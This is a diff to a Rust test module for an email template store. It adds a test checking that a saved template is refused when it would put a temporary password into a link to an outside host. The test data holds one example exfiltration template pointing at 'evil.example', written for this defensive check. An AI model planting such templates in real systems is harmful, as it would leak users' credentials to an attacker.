@@ -146,7 +146,11 @@ mod tests {
             template_id: TemplateId::from_parts(1, 2),
             version: number,
             name: text(),
-            sources: Sources { subject: text(), html: text(), text: text() },
+            sources: Sources {
+                subject: text(),
+                html: "{{temporaryPassword}} <a href='{{activationLink}}'>Activate</a>".to_owned(),
+                text: "{{temporaryPassword}} {{activationLink}}".to_owned(),
+            },
             updated_at: Some(Timestamp::UNIX_EPOCH),
             updated_by: Some(text()),
         }
@@ -188,6 +192,18 @@ mod tests {
         assert!(store.compiled(&TemplateId::built_in(), 9).await.expect("code").is_err());
         for _ in 0..3 {
             assert!(store.compiled(&version(1).template_id, 1).await.expect("read").is_ok());
+        }
+        assert_eq!(asked.requests().len(), 1);
+    }
+
+    #[tokio::test]
+    async fn a_version_that_an_earlier_release_saved_is_checked_again() {
+        let mut saved = version(1);
+        saved.sources.text = "https://evil.example/?p={{temporaryPassword}} {{activationLink}}".to_owned();
+        let (store, asked) = store([found(saved)]);
+        for _ in 0..2 {
+            let refused = store.compiled(&version(1).template_id, 1).await.expect("read").expect_err("refused");
+            assert!(refused.to_string().contains("(text 1:25 would become part of the address"), "{refused}");
         }
         assert_eq!(asked.requests().len(), 1);
     }
